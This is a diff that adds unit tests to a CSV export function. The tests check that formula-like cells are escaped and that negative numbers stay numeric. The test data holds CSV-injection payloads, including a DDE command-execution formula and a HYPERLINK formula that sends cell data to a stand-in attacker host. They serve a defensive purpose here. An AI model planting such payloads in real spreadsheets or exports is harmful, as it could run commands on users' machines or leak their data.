@@ -32,6 +32,32 @@ it('escapes a cell a spreadsheet would run as a formula', () => {
   expect(parsed[2]?.[0]).toBe(`'=HYPERLINK("x")`);
 });
 
+it('neutralises and quotes every formula in outside text, multi-line and fullwidth ones too', () => {
+  const formulas = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
+    '=1+1\nsecond line',
+    '\uFF1D1+1',
+    '+1',
+    '-1+2',
+    '@SUM(A1)',
+    '\t=1',
+  ];
+  const csv = toCsv({
+    columns: [{ key: 'name', label: 'Name' }],
+    rows: formulas.map((name) => ({ name })),
+  });
+  for (const formula of formulas) expect(csv).toContain(`"'${formula.replaceAll('"', '""')}"`);
+});
+
+it('writes numbers as numbers: a negative change is data, not a formula', () => {
+  const csv = toCsv({
+    columns: [{ key: 'change', label: 'Change', numeric: true }],
+    rows: [{ change: -3 }, { change: -0.5 }],
+  });
+  expect(csv.split('\r\n')).toEqual(['Change', '-3', '-0.5']);
+});
+
 it('names files by slugging their parts', () => {
   expect(csvFileName('Trends', 'Share of world GDP', '2020-11-10')).toBe(
     'trends-share-of-world-gdp-2020-11-10.csv',
